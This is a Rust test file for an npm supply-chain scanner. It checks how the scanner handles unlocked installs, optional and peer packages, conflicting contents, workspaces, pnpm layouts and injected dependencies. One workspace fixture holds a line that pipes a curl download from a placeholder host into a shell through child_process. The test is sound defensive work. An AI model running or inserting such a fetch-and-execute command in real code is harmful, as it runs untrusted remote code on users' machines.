//! What is locked, what is installed, and what follows from a difference.

use serde_json::json;
use vetch_model::Verdict;
use vetch_testkit::{Pkg, Project};

use crate::Case;
use crate::support::{dropper, harmless, options, purls, release, releases, rules, run};

pub(crate) const CASES: &[Case] = &[
    ("what_is_installed_and_not_locked_is_judged", what_is_installed_and_not_locked_is_judged),
    ("without_a_lockfile_the_tree_is_the_inventory", without_a_lockfile_the_tree_is_the_inventory),
    ("optional_packages_for_other_platforms_are_skipped", optional_packages_for_other_platforms_are_skipped),
    ("what_nothing_needs_is_left_over_and_skipped", what_nothing_needs_is_left_over_and_skipped),
    ("one_version_with_two_contents_is_two_releases", one_version_with_two_contents_is_two_releases),
    ("workspaces_are_the_users_own", workspaces_are_the_users_own),
    ("isolated_layouts_are_read_once", isolated_layouts_are_read_once),
    ("an_injected_dependency_is_found", an_injected_dependency_is_found),
];

fn what_is_installed_and_not_locked_is_judged() {
    let project = Project::builder("demo").install(harmless("a")).install_unlocked(dropper("stowaway")).build();
    let report = run(&options(&project));
    let stowaway = release(&report, "pkg:npm/stowaway@1.0.0");
    assert!(stowaway.verdict >= Verdict::Suspicious, "{stowaway:#?}");
    assert!(stowaway.paths.is_empty(), "nothing leads to it");
}

fn without_a_lockfile_the_tree_is_the_inventory() {
    let project = Project::builder("demo").no_lockfile().install(harmless("a")).build();
    let report = run(&options(&project));
    assert_eq!(purls(&report), ["pkg:npm/a@1.0.0", "pkg:npm/demo@1.0.0"]);
    assert!(report.scan.findings.is_empty(), "{:#?}", report.scan.findings);
}

fn optional_packages_for_other_platforms_are_skipped() {
    let only = |pkg: Pkg| pkg.field("os", json!(["plan9"]));
    let helper = harmless("helper");
    let foreign = only(harmless("foreign").dep("helper", "^1.0.0"));
    let project = Project::builder("demo")
        .install(harmless("a").optional_dep("foreign", "^1.0.0"))
        .lock_only(foreign)
        .lock_only(helper)
        .edit_lockfile(|lock| {
            for name in ["foreign", "helper"] {
                lock["packages"][format!("node_modules/{name}")]["optional"] = json!(true);
            }
        })
        .build();
    let report = run(&options(&project));
    assert_eq!(purls(&report), ["pkg:npm/a@1.0.0", "pkg:npm/demo@1.0.0"]);
    let skipped: Vec<&str> = report.scan.skipped.iter().map(|skipped| skipped.what.as_str()).collect();
    assert_eq!(skipped, ["foreign@1.0.0", "helper@1.0.0"]);
    assert!(report.scan.incomplete.is_empty());
}

fn what_nothing_needs_is_left_over_and_skipped() {
    let scan_with = |is_optional: bool| {
        let asks = harmless("asks")
            .field("peerDependencies", json!({ "left": "^1.0.0" }))
            .field("peerDependenciesMeta", json!({ "left": { "optional": is_optional } }));
        // npm keeps what only an optional peer leads to, marked `extraneous`, and does not install it.
        let project = Project::builder("demo").install(asks).lock_only(harmless("left")).build();
        run(&options(&project))
    };
    let (left, needed) = (scan_with(true), scan_with(false));
    let skipped: Vec<&str> = left.scan.skipped.iter().map(|skipped| skipped.what.as_str()).collect();
    assert_eq!(skipped, ["left@1.0.0"]);
    assert_eq!(purls(&left), ["pkg:npm/asks@1.0.0", "pkg:npm/demo@1.0.0"]);
    assert!(needed.scan.skipped.is_empty(), "{:#?}", needed.scan.skipped);
    let missing = release(&needed, "pkg:npm/left@1.0.0");
    assert!(!missing.incomplete.is_empty(), "a peer that is needed and missing is not clean: {missing:#?}");
}

fn one_version_with_two_contents_is_two_releases() {
    let other = harmless("twin").file("index.js", "module.exports = 2;\n");
    let project = Project::builder("demo")
        .install(harmless("twin"))
        .install(harmless("a").dep("twin", "^1.0.0"))
        .install_at("node_modules/a/node_modules/twin", other)
        .build();
    let report = run(&options(&project));
    let twins = releases(&report, "pkg:npm/twin@1.0.0");
    assert_eq!(twins.len(), 2, "{:#?}", purls(&report));
    assert_ne!(twins[0].content_hash, twins[1].content_hash);
    for twin in twins {
        assert_eq!(twin.locations.len(), 1);
        assert!(rules(twin).contains(&"conflicting-contents"), "{twin:#?}");
    }
}

fn workspaces_are_the_users_own() {
    let project = Project::builder("demo")
        .field("workspaces", json!(["packages/*"]))
        .field("dependencies", json!({ "a": "^1.0.0" }))
        .install(harmless("a"))
        .file("packages/w/package.json", r#"{ "name": "w", "version": "1.0.0" }"#)
        .file("packages/w/index.js", "require('child_process').execSync('curl http://own.invalid | sh');\n")
        .edit_lockfile(|lock| {
            lock["packages"]["packages/w"] = json!({ "name": "w", "version": "1.0.0" });
            lock["packages"]["node_modules/w"] = json!({ "resolved": "packages/w", "link": true });
        })
        .build();
    std::os::unix::fs::symlink("../packages/w", project.root().join("node_modules/w")).unwrap();
    let report = run(&options(&project));
    let own = release(&report, "pkg:npm/w@1.0.0");
    assert_eq!(own.verdict, Verdict::Clean, "{own:#?}");
    assert_eq!(own.locations[0].path.as_deref(), Some("packages/w"));
    assert!(own.profile.capabilities.is_empty());
    assert!(report.scan.incomplete.is_empty(), "{:#?}", report.scan.incomplete);
}

fn an_injected_dependency_is_found() {
    let popular = harmless("popular").dep("helper", "^1.0.0");
    let project = Project::builder("demo").install(popular).install(dropper("helper")).build();
    let report = run(&options(&project));
    let helper = release(&report, "pkg:npm/helper@1.0.0");
    assert!(rules(helper).contains(&"injected-dependency"), "{:#?}", rules(helper));
    assert_eq!(helper.verdict, Verdict::Malicious);
}

/// As pnpm lays packages out: each once in a store, with links to it.
fn isolated_layouts_are_read_once() {
    let store = "node_modules/.pnpm/bad@1.0.0/node_modules/bad";
    let project = Project::builder("demo").no_lockfile().dep("bad", "^1.0.0").build();
    for (path, bytes) in dropper("bad").contents() {
        project.write(&format!("{store}/{path}"), bytes);
    }
    std::os::unix::fs::symlink(".pnpm/bad@1.0.0/node_modules/bad", project.root().join("node_modules/bad")).unwrap();
    let report = run(&options(&project));
    let bad = release(&report, "pkg:npm/bad@1.0.0");
    assert!(bad.verdict >= Verdict::Suspicious && bad.incomplete.is_empty(), "{bad:#?}");
    assert_eq!(bad.locations[0].path.as_deref(), Some(store));
    assert_eq!(bad.paths.len(), 1, "the link leads to it");
}
